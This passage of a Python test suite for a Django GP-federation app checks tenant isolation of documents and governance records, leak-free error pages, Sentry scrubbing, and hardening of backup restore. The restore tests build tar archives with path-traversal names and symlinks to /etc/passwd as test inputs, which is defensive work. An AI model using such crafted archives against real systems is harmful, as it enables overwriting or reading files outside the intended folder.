        f"/comms/events/{b_event.pk}/materials/{material.pk}",
        f"/comms/events/{event.pk}/materials/{b_material.pk}",
        f"/comms/library/{resource.pk}/v1",
        f"/comms/library/{resource.pk}/v2",
    ]


A_BYTES = (b"Spec", b"Plan", b"Notes", b"Agenda", b"Policy")


def test_b_reaches_none_of_as_documents_after_uploading_its_own(demo, world, client):
    mine = b_documents(world)
    as_user(client, world["users"]["other_admin"])
    # Her own answer (positive control): the finance document and the library file.
    own = client.get(f"/finance/{OTHER}/documents/{mine['contract'][1].pk}/")
    assert own.status_code == 200 and b"".join(own.streaming_content) == b"B spec"
    for url in a_document_urls(world, mine):
        response = client.get(url)
        assert response.status_code == 404, url
        body = b"".join(response.streaming_content) if response.streaming else response.content
        assert not any(body.startswith(data) for data in A_BYTES), url
    # B's same-named uploads replaced none of A's stored copies.
    assert world["document"].file.name != mine["contract"][1].file.name
    with default_storage.open(world["document"].file.name, "rb") as f:
        assert f.read() == b"Spec"


def test_a_damaged_document_answers_b_404_and_a_a_page_that_leaks_nothing(demo, world, client):
    doc = world["document"]
    with open(Path(settings.MEDIA_ROOT) / doc.file.name, "wb") as f:
        f.write(b"Tampered")
    url = f"/finance/{FED}/documents/{doc.pk}/"
    as_user(client, world["users"]["other_admin"])
    assert client.get(url).status_code == 404
    client.logout()
    as_user(client, world["users"]["federation_admin"])
    response = client.get(url)
    assert response.status_code == 500
    page = response.content.decode()
    assert "Tampered" not in page
    for leak in (
        doc.file.name,
        doc.sha256,
        hashlib.sha256(b"Tampered").hexdigest(),
        str(settings.MEDIA_ROOT),
        "Traceback",
    ):
        assert leak not in page


# --- backups ---------------------------------------------------------------------------------


def archive(tmp_path, members, manifest=None, *, name="backup.tar", extra=()):
    """A tar of ``members`` (name -> bytes) with a manifest listing them (or ``manifest``
    itself, bytes or a dict), plus ``extra`` TarInfo members (links, folders)."""
    listed = [
        {"name": n, "size": len(d), "sha256": hashlib.sha256(d).hexdigest()}
        for n, d in members.items()
    ]
    if manifest is None:
        manifest = {
            "format": backups.FORMAT,
            "format_version": backups.FORMAT_VERSION,
            "gpfed_version": "0",
            "created_at": "2026-12-05T00:00:00+00:00",
            "database": {"engine": "sqlite", "member": backups.SQLITE_MEMBER},
            "migrations": {},
            "tables": {},
            "documents": len(members) - 1,
            "missing_documents": [],
            "members": listed,
        }
    data = manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode()
    path = tmp_path / name
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for n, d in {**members, backups.MANIFEST: data}.items():
            info = tarfile.TarInfo(n)
            info.size = len(d)
            tar.addfile(info, io.BytesIO(d))
        for info in extra:
            tar.addfile(info)
    return path


def restore_refused(path, capsys):
    """``gpfed restore --check`` and ``gpfed restore``: each refuses with exit 2."""
    for args in (["restore", "--check", str(path)], ["restore", str(path)]):
        assert main(args) == 2
        err = capsys.readouterr().err
        assert err.startswith("gpfed: ") and "Traceback" not in err
    return err


def link(name, target, kind=tarfile.SYMTYPE):
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


DB = {backups.SQLITE_MEMBER: b"SQLite format 3\x00"}


@pytest.mark.parametrize(
    ("members", "extra"),
    [
        ({**DB, "documents/../../escaped.txt": b"x"}, ()),
        ({**DB, "documents/contracts/../../../escaped.txt": b"x"}, ()),
        ({**DB, "documents//tmp/escaped.txt": b"x"}, ()),
        ({**DB, "documents/a\\..\\..\\escaped.txt": b"x"}, ()),
        ({**DB, "../escaped.txt": b"x"}, ()),
        ({**DB, "/tmp/escaped.txt": b"x"}, ()),  # noqa: S108
        (DB, (link("documents/contracts/evil", "/etc/passwd"),)),
        (DB, (link("documents/contracts/evil", "../../../../etc/passwd", tarfile.LNKTYPE),)),
        (DB, (link("documents", "/tmp"),)),  # noqa: S108
    ],
)
def test_restore_refuses_an_archive_that_reaches_outside_the_documents(
    db, tmp_path, capsys, settings, members, extra
):
    settings.MEDIA_ROOT = tmp_path / "media" / "documents"
    path = archive(tmp_path, members, extra=extra)
    before = sorted(p for p in tmp_path.rglob("*"))
    restore_refused(path, capsys)
    assert sorted(p for p in tmp_path.rglob("*")) == before
    assert not (tmp_path / "escaped.txt").exists()
    assert not Path("/tmp/escaped.txt").exists()  # noqa: S108


def test_a_well_formed_archive_with_a_document_passes_the_check(db, tmp_path, capsys):
    """The refusals above are of the attack, not of every archive."""
    path = archive(tmp_path, {**DB, "documents/contracts/2026/spec.txt": b"Spec"})
    assert main(["restore", "--check", str(path)]) == 0
    assert "1 document" in capsys.readouterr().out


def test_restore_refuses_a_manifest_naming_files_it_does_not_hold_or_outside_documents(
    db, tmp_path, capsys
):
    base = archive(tmp_path, DB, name="base.tar")
    with tarfile.open(base) as tar:
        manifest = json.loads(tar.extractfile(backups.MANIFEST).read())
    for name in ("documents/../../etc/passwd", "/etc/passwd", "documents/none.txt"):
        forged = {**manifest, "members": [*manifest["members"], {"name": name, "size": 1}]}
        restore_refused(archive(tmp_path, DB, forged, name="forged.tar"), capsys)
    for database in ("../database.sqlite3", "/etc/passwd", ["x"], None):
        forged = {**manifest, "database": {"engine": "sqlite", "member": database}}
        restore_refused(archive(tmp_path, DB, forged, name="forged.tar"), capsys)
    for bad in (b"[" * 200_000, b'{"format": ' * 50_000, b"[]", b'"x"', b"\xff\xfe"):
        restore_refused(archive(tmp_path, DB, bad, name="bad.tar"), capsys)


def test_restore_refuses_a_huge_manifest_without_reading_it(db, tmp_path, capsys):
    path = tmp_path / "huge.tar"
    size = 64 * 1024 * 1024
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo(backups.MANIFEST)
        info.size = size
        tar.addfile(info, io.BytesIO(b" " * size))
    tracemalloc.start()
    try:
        assert main(["restore", "--check", str(path)]) == 2
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    capsys.readouterr()
    assert peak < 16 * 1024 * 1024


def fake_database_copy(work):
    import contextlib

    @contextlib.contextmanager
    def copy(folder):
        path = folder / backups.SQLITE_MEMBER
        path.write_bytes(b"SQLite format 3\x00")
        yield backups.SQLITE_MEMBER, path, backups.Contents({}, {}), {}

    return copy


def test_backup_output_through_a_symlink_never_writes_the_link_target(
    db, tmp_path, capsys, monkeypatch
):
    """The output is a symlink an attacker planted, to a file or a folder elsewhere."""
    monkeypatch.setattr(backups, "_database_copy", fake_database_copy(tmp_path))
    victim = tmp_path / "elsewhere" / "victim.txt"
    victim.parent.mkdir()
    victim.write_bytes(b"precious")
    out = tmp_path / "out"
    out.mkdir()
    planted = out / "backup.tar"
    planted.symlink_to(victim)
    assert main(["backup", "--output", str(planted)]) == 2
    assert "already exists" in capsys.readouterr().err
    assert victim.read_bytes() == b"precious"
    assert main(["backup", "--output", str(planted), "--force"]) == 0
    capsys.readouterr()
    assert victim.read_bytes() == b"precious"
    assert not planted.is_symlink() and tarfile.is_tarfile(planted)
    assert oct(planted.stat().st_mode & 0o777) == "0o600"
    assert main(["restore", "--check", str(planted)]) == 0  # what gpfed writes, it reads
    assert "every checksum matches" in capsys.readouterr().out
    # A symlink to a folder is refused; a dangling one is replaced, its target not created.
    into = out / "folder.tar"
    into.symlink_to(victim.parent)
    assert main(["backup", "--output", str(into)]) == 2
    capsys.readouterr()
    dangling = out / "dangling.tar"
    dangling.symlink_to(tmp_path / "elsewhere" / "new.tar")
    assert main(["backup", "--output", str(dangling)]) == 0
    capsys.readouterr()
    assert not (tmp_path / "elsewhere" / "new.tar").exists()
    assert sorted(os.listdir(victim.parent)) == ["victim.txt"]
    assert AuditEvent.objects.filter(action="backup.create").count() == 2


# --- sequences through a practice both federations come to hold ------------------------------


def test_before_the_practice_agrees_b_has_no_register_entry_for_it(demo, world, client):
    """B has only asked to hold C82001: its register page and service know nothing of it."""
    as_user(client, world["users"]["other_admin"])
    url = f"/governance/{OTHER}/members/C82001/"
    assert client.get(url).status_code == 404
    assert client.post(url, {"liability": "shares", "shares": "5"}).status_code == 404
    with pytest.raises(GovernanceError):
        gov.member_set(
            federation=other(), practice=c82001(), shares=5, by=world["users"]["other_admin"]
        )
    assert not Member.objects.filter(practice=c82001()).exists()


def test_bs_shares_and_weights_for_a_shared_practice_never_touch_or_read_as(demo, world, client):
    """A gives C82001 999 shares and weights its votes by shares. Once B holds C82001 too, B
    allocates shares by its own rule and puts a resolution weighted by shares: A's entry is
    unchanged, and B's weight for C82001 is B's own holding, not A's 999."""
    coo = world["users"]["federation_admin"]
    gov.member_set(federation=elr(), practice=c82001(), shares=999, by=coo)
    share_c82001_with_other(world)
    before = governance_state(elr())
    admin = world["users"]["other_admin"]
    gov.articles_set(
        federation=other(),
        voting_rule="shares",
        share_rule="one_per_practice",
        quorum_members=1,
        notice_days=14,
        written_lapse_days=28,
        by=admin,
    )
    as_user(client, admin)
    fingerprint = gov_selectors.share_allocation(other()).fingerprint
    client.post(f"/governance/{OTHER}/shares/apply/", {"fingerprint": fingerprint})
    assert Member.objects.get(federation=other(), practice=c82001()).shares == 1
    resolution = gov.resolution_circulate(
        federation=other(),
        title="By shares",
        text="That B does it.",
        kind="ordinary",
        mode="written",
        circulated_on=timezone.localdate(),
        by=admin,
    )
    assert resolution.eligible_members.get(practice=c82001()).weight == 1
    page = client.get(f"/governance/resolutions/{resolution.pk}/").content.decode()
    assert "999" not in page
    register = client.get(f"/governance/{OTHER}/members.csv").content.decode()
    assert "999" not in register and world["users"]["practice_manager"].email not in register
    assert governance_state(elr()) == before
    assert Member.objects.get(federation=elr(), practice=c82001()).shares == 999


def test_bs_tally_naming_as_practices_says_nothing_of_a(demo, world, tmp_path, capsys):
    """B's administrator tallies a file of A's practices' codes against B: each is refused as
    not B's member, and nothing says whose member it is."""
    votes = votes_file(tmp_path, b"ODS code,Vote\nC82001,for\nC82002,against\n")
    assert tally(world["users"]["other_admin"], OTHER, votes) == 2
    out = capsys.readouterr()
    assert "not a member of Other GP Federation" in out.err
    assert elr().name not in out.err + out.out and FED not in out.err + out.out


def sentry_event(path):
    """An error event as sentry-sdk's Django integration builds it for a request to ``path``."""
    return {
        "user": {"id": 7, "email": "pat@example.org", "username": "pat@example.org"},
        "request": {
            "url": f"http://testserver{path}",
            "method": "POST",
            "query_string": "email=pat%40example.org",
            "headers": {"Referer": f"http://testserver{path}", "X-Request-ID": "abc"},
            "data": {"password1": "secret-password"},
        },
        "exception": {"values": [{"value": "no user pat@example.org"}]},
    }


def test_sentry_events_carry_no_email_query_body_or_referer(demo, world):
    from gpfed.sentry import scrub_event

    text = json.dumps(scrub_event(sentry_event("/accounts/people/")))
    for leak in ("pat@example.org", "pat%40example.org", "secret-password", "Referer"):
        assert leak not in text


@pytest.mark.parametrize("kind", ["invitation", "reset", "unsubscribe"])
def test_sentry_events_carry_no_token_from_a_secret_link(demo, world, kind):
    from gpfed.sentry import scrub_event

    path = genuine_secret_links(world)[kind]
    text = json.dumps(scrub_event(sentry_event(path)))
    for secret in secrets_of(path):
        assert secret not in text
